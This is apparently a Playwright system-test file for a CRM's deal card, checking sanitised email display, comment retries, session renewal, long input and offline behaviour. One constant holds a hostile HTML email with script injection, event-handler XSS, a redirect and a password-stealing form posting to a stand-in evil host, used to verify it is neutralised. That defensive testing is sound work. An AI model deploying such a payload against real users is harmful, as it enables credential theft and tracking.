"""Whatever comes in or fails to, the person sees what happened and loses nothing typed."""

import pytest
from playwright.sync_api import Locator, expect
from tests.system.browser.conftest import Enter
from tests.system.browser.device import PHONE, Device
from tests.system.browser.scene import Sale, Scene
from tests.system.browser.visitor import Visitor
from tests.system.person import PASSWORD
from tests.system.portal import eventually

pytestmark = pytest.mark.system

COMMENTS = "**/api/crm/deals/*/comments"
HOSTILE = """<html><head><style>body{display:none} *{position:fixed}</style>
<script>document.title = 'taken'</script><meta http-equiv="refresh" content="0;url=http://evil.example/"></head>
<body onload="document.title='taken'"><p>Добрый день, это письмо <b>с оформлением</b>.</p>
<img src="http://tracker.example/pixel.gif" width="1" height="1"><img src=x onerror="document.title='taken'">
<div style="position:fixed;inset:0;background:url(http://tracker.example/wall.png)">стена</div>
<form action="http://evil.example/steal"><input name="password"><button>Войти</button></form>
<a href="javascript:document.title='taken'">нажмите</a><iframe src="http://evil.example/"></iframe></body></html>"""


@pytest.fixture
def sale(scene: Scene) -> Sale:
    return scene.sale()


def test_a_hostile_letter_is_shown_and_does_nothing(enter: Enter, scene: Scene, sale: Sale) -> None:
    """As it was sent and as text: no script ran, no form is there, and nobody was told that it was read."""
    subject = scene.name("Проверьте оплату")
    scene.letter(sale, subject, "Добрый день, это письмо с оформлением.", html=HOSTILE)
    visitor = enter("seller")
    asked: list[str] = []
    visitor.page.on("request", lambda request: asked.append(request.url))
    visitor.open(sale.path)
    visitor.entry(subject).click()
    letter = visitor.page.frame_locator("iframe")
    expect(letter.get_by_text("с оформлением")).to_be_visible()
    for gone in ("form", "input", "script", "iframe", "img[src^=http]", "a[href^=javascript]"):
        expect(letter.locator(gone)).to_have_count(0)
    visitor.button("letter:asText").click()
    visitor.sees("Добрый день, это письмо с оформлением.")
    assert sale.title in visitor.page.title()
    assert [url for url in asked if "tracker.example" in url or "evil.example" in url] == []


@pytest.mark.parametrize(
    ("status", "message"),
    [(409, None), (429, None), (500, "errorServer"), (0, "errorOffline")],
)
def test_a_comment_that_is_not_taken_stays_in_its_box(
    enter: Enter, scene: Scene, sale: Sale, status: int, message: str | None
) -> None:
    """The reason is told, the text outlives even a reload, and the second try succeeds."""
    text = scene.name("Склад обещал ответить завтра")
    visitor = enter("seller", Device("en" if status % 2 else "ru"))
    visitor.troubles.expect(rf"{status} POST .*/comments$", r"failed: POST .*/comments ")
    visitor.answers(COMMENTS, status, "POST", **{"retry-after": "30"})
    box = commenting(visitor, sale)
    box.fill(text)
    visitor.button("card:commentSubmit").click()
    told = visitor.page.get_by_role("alert").first
    expect(told).to_be_visible()
    if message:
        expect(told).to_contain_text(visitor.words(message))
    visitor.page.unroute_all()
    visitor.page.reload()
    visitor.tab("card:tabComment").click()
    visitor.holds(box, text)
    visitor.button("card:commentSubmit").click()
    expect(visitor.entry(text)).to_be_visible()
    assert eventually(lambda: scene.seller.entry(sale.card, text, kind="comment"))


def test_an_ended_session_is_renewed_over_the_page(enter: Enter, scene: Scene, sale: Sale) -> None:
    """The password is asked for above what was typed, which then goes out by itself."""
    text = scene.name("Клиент просит скидку")
    visitor = enter("seller", Device("en"))
    visitor.troubles.expect(r"401 POST ")
    box = commenting(visitor, sale)
    box.fill(text)
    visitor.answers(COMMENTS, 401, "POST")
    visitor.answers("**/api/people/sessions/refresh", 401)
    visitor.button("card:commentSubmit").click()
    dialog = visitor.page.get_by_role("dialog")
    expect(dialog).to_contain_text(visitor.words("session:expiredText"))
    visitor.page.unroute_all()
    dialog.get_by_label(visitor.words("session:password"), exact=True).first.fill(PASSWORD)
    dialog.get_by_role("button", name=visitor.words("session:submit"), exact=True).click()
    expect(dialog).to_have_count(0)
    expect(visitor.entry(text)).to_be_visible()


def test_ten_thousand_lines_break_neither_page_nor_card(
    enter: Enter, scene: Scene, sale: Sale
) -> None:
    """Too long is told before anything is lost; a long one that is taken is folded."""
    visitor = enter("seller", Device("ru", PHONE))
    box = commenting(visitor, sale)
    visitor.put(box, "\n".join(f"строка {number}" for number in range(10_000)))
    expect(visitor.page.get_by_role("alert").first).to_be_visible()
    expect(visitor.button("card:commentSubmit")).to_be_disabled()
    kept = visitor.text_of(box).count("\n")
    assert kept == 9_999
    visitor.put(box, "\n".join(f"строка {number}" for number in range(700)))
    visitor.button("card:commentSubmit").click()
    expect(visitor.entry("строка 3")).to_be_visible()
    assert visitor.sideways() == 0
    height = visitor.region("card:timeline").evaluate("one => one.scrollHeight")
    assert height < 2_000


def test_a_page_that_cannot_be_read_says_so_and_recovers(enter: Enter, sale: Sale) -> None:
    """Instead of a blank page there is what to do, and doing it helps."""
    visitor = enter("seller", Device("ru", PHONE))
    visitor.troubles.expect(r"500 GET .*/api/crm/deals")
    visitor.answers("**/api/crm/deals/0*", 500, "GET")
    visitor.open(sale.path)
    expect(visitor.button("retry").first).to_be_visible()
    visitor.page.unroute_all()
    visitor.button("retry").first.click()
    expect(visitor.heading(sale.title)).to_be_visible()


def test_without_a_network_what_was_open_can_be_read(enter: Enter, sale: Sale) -> None:
    """A banner says so calmly, the page before can be gone back to, and the connection is noticed."""
    visitor = enter("seller", Device("en"), service_workers="allow")
    visitor.troubles.expect(
        r"failed: GET .*ERR_INTERNET_DISCONNECTED", r"failed: POST .*ERR_INTERNET"
    )
    visitor.open("/contacts")
    expect(visitor.heading(visitor.words("navContacts"))).to_be_visible()
    visitor.open(sale.path)
    expect(visitor.heading(sale.title)).to_be_visible()
    visitor.context.set_offline(True)
    visitor.sees(visitor.words("offlineTitle"))
    expect(visitor.heading(sale.title)).to_be_visible()
    visitor.context.set_offline(False)
    expect(visitor.page.get_by_text(visitor.words("offlineTitle"))).to_have_count(0)


def commenting(visitor: Visitor, sale: Sale) -> Locator:
    """The box for a comment on the card."""
    visitor.open(sale.path)
    visitor.tab("card:tabComment").click()
    box = visitor.box("card:commentText")
    expect(box).to_be_visible()
    return box
